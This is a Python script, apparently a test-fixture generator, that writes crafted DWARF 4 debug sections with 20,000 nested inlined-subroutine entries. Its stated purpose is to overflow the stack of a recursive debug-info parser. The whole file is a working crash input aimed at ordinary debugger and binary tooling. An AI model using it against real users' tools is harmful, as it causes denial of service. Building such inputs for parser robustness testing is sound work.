#!/usr/bin/env python3
"""Writes hostile DWARF 4 sections: a compile unit whose subprogram holds
20,000 nested DW_TAG_inlined_subroutine DIEs (1 byte each). Enough to
overflow an 8 MB stack in a recursive DIE parser.
Usage: deep_dies.py INFO_OUT ABBREV_OUT LOW_PC"""
import struct, sys

DEPTH = 20000


def uleb(v):
    out = b""
    while True:
        b = v & 0x7F
        v >>= 7
        if v:
            out += bytes([b | 0x80])
        else:
            return out + bytes([b])


info_out, abbrev_out, low_pc = sys.argv[1], sys.argv[2], int(sys.argv[3], 0)
# 1: compile_unit (children) low_pc addr, high_pc data8
# 2: subprogram (children) low_pc addr, high_pc data8, name string
# 3: inlined_subroutine (children), no attributes
abbrev = (uleb(1) + uleb(0x11) + b"\x01" + uleb(0x11) + uleb(0x01) + uleb(0x12) + uleb(0x07) + b"\0\0"
          + uleb(2) + uleb(0x2E) + b"\x01" + uleb(0x11) + uleb(0x01) + uleb(0x12) + uleb(0x07)
          + uleb(0x03) + uleb(0x08) + b"\0\0"
          + uleb(3) + uleb(0x1D) + b"\x01" + b"\0\0" + b"\0")
size = 0x100
body = (uleb(1) + struct.pack("<QQ", low_pc, size)
        + uleb(2) + struct.pack("<QQ", low_pc, size) + b"deep\0"
        + uleb(3) * DEPTH + b"\0" * (DEPTH + 2))
header = struct.pack("<HIB", 4, 0, 8)  # version 4, abbrev offset 0, 8-byte addresses
with open(info_out, "wb") as f:
    f.write(struct.pack("<I", len(header) + len(body)) + header + body)
with open(abbrev_out, "wb") as f:
    f.write(abbrev)
